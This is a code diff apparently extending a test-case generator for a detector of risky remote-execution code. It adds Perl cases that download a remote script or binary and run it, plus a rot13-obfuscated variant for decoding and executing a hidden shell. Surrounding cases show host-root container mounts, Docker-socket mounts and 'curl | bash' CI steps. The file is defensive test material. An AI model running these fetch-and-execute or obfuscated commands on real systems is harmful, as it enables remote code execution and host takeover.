@@ -35,6 +35,7 @@ const b64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');
 const hex = (text: string) => Buffer.from(text, 'utf8').toString('hex');
 const gzip64 = (text: string) => gzipSync(Buffer.from(text, 'utf8')).toString('base64');
 const reversed = (text: string) => [...text].reverse().join('');
+const rot13 = (text: string) => text.replace(/[a-z]/gi, (c) => String.fromCharCode(((c.charCodeAt(0) - (c <= 'Z' ? 65 : 97) + 13) % 26) + (c <= 'Z' ? 65 : 97)));
 const codes = (text: string) => [...text].map((c) => c.charCodeAt(0)).join(', ');
 
 /** `{X}` in a template is replaced by a value; unknown keys stay. */
@@ -131,6 +132,8 @@ function remoteTreeCells(): Exec2Case[] {
     cell('bash', 'image · unknown registry host pid', `docker run --rm --pid=host --net=host registry.${HOST}/tools/helper`),
     cell('bash', 'image · unknown registry docker socket', `docker run -d -v /var/run/docker.sock:/var/run/docker.sock registry.${HOST}/ops/agent:1`),
     cell('bash', 'image · podman host root', `podman run --rm -v /:/host:rw registry.${HOST}/ops/agent`),
+    cell('perl', 'fetch · lwp simple get run', `use LWP::Simple;\n\nmy $body = get('${SCRIPT}') or die;\nmy @run = ('/bin/sh', '-c', $body);\nsystem(@run);`),
+    cell('perl', 'fetch · lwp simple getstore run', `use LWP::Simple qw(getstore);\n\ngetstore('${BINARY}', '/tmp/helperd');\nchmod 0755, '/tmp/helperd';\nsystem('/tmp/helperd');`),
     cell('yaml', 'ci include · gitlab remote', `include:\n  - remote: "https://${HOST}/ci/pipeline.yml"\n\nstages: [test]\n`),
     cell('yaml', 'ci step · piped install', `jobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -fsSL ${SCRIPT} | bash\n`),
     cell('yaml', 'ci step · pip from git', `jobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: pip install git+${GIT}\n`),
@@ -284,6 +287,7 @@ const DECODE_LANGUAGES: DecodeLanguage[] = [
       part('base64', `my $script = decode_base64('${b64(HIDDEN_SHELL)}');`),
       part('hex pack', `my $script = pack('H*', '${hex(HIDDEN_SHELL)}');`),
       part('reversed', `my $script = reverse '${reversed(HIDDEN_SHELL)}';`),
+      part('rot13 tr', `(my $script = '${rot13(HIDDEN_SHELL)}') =~ tr/A-Za-z/N-ZA-Mn-za-m/;`),
     ],
     runners: [
       part('system', 'system($script);'),
